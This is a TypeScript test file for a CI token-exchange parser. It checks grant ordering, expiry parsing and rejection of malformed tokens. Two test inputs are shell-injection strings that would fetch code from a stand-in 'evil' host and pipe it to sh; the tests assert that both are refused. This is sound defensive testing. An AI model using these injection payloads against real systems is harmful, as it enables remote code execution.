import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { readDepotAnswer, readTokenResponse } from '../../../src/action/exchange/issued-token.ts';
import { Failure } from '../../../src/action/failure/failure.ts';

const good = {
  access_token: 'dpb_token_of_a_job',
  token_type: 'Bearer',
  expires_in: 600,
  scope: 'pull build',
  projects: ['acme/web'],
  grants: [{ project: 'acme/web', permissions: ['pull', 'build', 'fly'] }],
  reference: 'r1',
};

const answer = (body: unknown) => ({ status: 200, headers: {}, body: JSON.stringify(body) });

describe('a token response', () => {
  test('is read with its grants in the canonical order, unknown permissions left out', () => {
    expect(readTokenResponse(answer(good))).toEqual({
      token: 'dpb_token_of_a_job',
      expiresIn: 600,
      projects: ['acme/web'],
      permissions: ['build', 'pull'],
      grants: [{ project: 'acme/web', permissions: ['build', 'pull'] }],
      reference: 'r1',
      revocable: true,
    });
  });

  test('without grants, the scope holds in each project', () => {
    const { grants } = readTokenResponse(answer({ ...good, grants: undefined }));
    expect(grants).toEqual([{ project: 'acme/web', permissions: ['build', 'pull'] }]);
  });

  test.each([
    [undefined, undefined],
    ['600', 600],
  ])('with expires_in %j lives for %j', (sent, expiresIn) => {
    expect(readTokenResponse(answer({ ...good, expires_in: sent })).expiresIn).toBe(expiresIn);
  });

  test.each([
    ['token_type', 'mac'],
    ['token_type', undefined],
    ['token_type', { toString: 0 }],
    ['expires_in', 1.5],
    ['expires_in', '1h'],
    ['expires_in', ''],
    ['expires_in', '99999999999999999999'],
    ['expires_in', 1e300],
    ['expires_in', null],
    ['access_token', ' dpb_token_of_a_job'],
    ['access_token', 'dpb_token_of_a_jo\u00e9'],
    ['access_token', 'x'.repeat(20_000)],
    ['access_token', '";curl$IFS$9evil|sh;#`id`$(id)'],
    ['access_token', 'dpb_too_short'],
    ['access_token', '=dpb_token_of_a_job'],
  ])('with %s %j cannot be used', (member, value) => {
    expect(() => readTokenResponse(answer({ ...good, [member]: value }))).toThrow(Failure);
  });

  test('chooses no shell text by its reference', () => {
    const reference = '"; curl evil | sh; #';
    expect(readTokenResponse(answer({ ...good, reference })).reference).toBeUndefined();
  });

  test('is used or refused, whatever it holds', () => {
    const changes = fc.dictionary(fc.constantFrom(...Object.keys(good)), fc.jsonValue());
    fc.assert(
      fc.property(changes, (change) => {
        try {
          expect(readTokenResponse(answer({ ...good, ...change })).token).toMatch(
            /^[\w.~+/-]{16,}=*$/,
          );
        } catch (error) {
          expect(error).toBeInstanceOf(Failure);
        }
      }),
    );
  });
});

describe('a Depot-shaped answer', () => {
  test('of Depot has a token and nothing else, which nobody revokes', () => {
    expect(readDepotAnswer(answer({ ok: true, token: 'depot_token_of_a_job' }))).toMatchObject({
      token: 'depot_token_of_a_job',
      expiresIn: undefined,
      projects: [],
      revocable: false,
    });
  });

  test('of a Dockpass says more, and can be revoked', () => {
    const { projects, reference, expires_in } = good;
    const body = { ok: true, token: 'dpb_token_of_a_job', projects, reference, expires_in };
    expect(readDepotAnswer(answer(body))).toMatchObject({ expiresIn: 600, revocable: true });
  });
});
